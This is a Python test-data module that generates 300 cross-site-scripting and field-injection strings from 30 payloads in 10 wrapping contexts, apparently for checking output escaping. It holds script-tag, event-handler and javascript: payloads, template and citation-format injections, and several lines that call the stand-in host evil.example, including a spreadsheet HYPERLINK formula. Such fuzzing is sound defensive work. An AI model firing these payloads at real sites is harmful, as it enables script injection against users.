"""Three hundred strings that run a script, or end a field, wherever an escape is forgotten."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</textarea></noscript><script>alert({n})</script>",
    "--><script>alert({n})</script><!--",
    "]]><script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<a href=javascript:alert({n})>x</a>",
    "<mark onmouseover=alert({n})>x</mark>",
    "<input autofocus onfocus=alert({n})>",
    "<form action=javascript:alert({n})><button>x</button></form>",
    "<base href=//evil.example/{n}>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<meta http-equiv=refresh content=0;url=javascript:alert({n})>",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    '" onmouseover=alert({n}) x="',
    "' autofocus onfocus=alert({n}) x='",
    "javascript:alert({n})",
    "{{{{constructor.constructor('alert({n})')()}}}}{{% debug %}}",
    "}},\n@article{{x{n}, title = {{<script>alert({n})</script>}}",
    "\r\nER  - \r\nTY  - NEWS\r\nTI  - alert({n})",
    '=HYPERLINK("//evil.example/{n}","x")',
    "\u2028alert({n})\u2029//",
    '\\"</script><script>alert({n})//',
    "&lt;script&gt;alert({n})&lt;/script&gt;&#60;script&#62;alert({n})&#60;/script&#62;",
)
SURROUNDINGS = ("{}", "عقد {}", "{} عقد", '"{}', "'{}", '">{}', "'>{}", "`{}`", "\u202e{}", "<{}")
PAYLOADS = tuple(
    around.format(script.format(n=SURROUNDINGS.index(around) * len(SCRIPTS) + number))
    for around in SURROUNDINGS
    for number, script in enumerate(SCRIPTS)
)
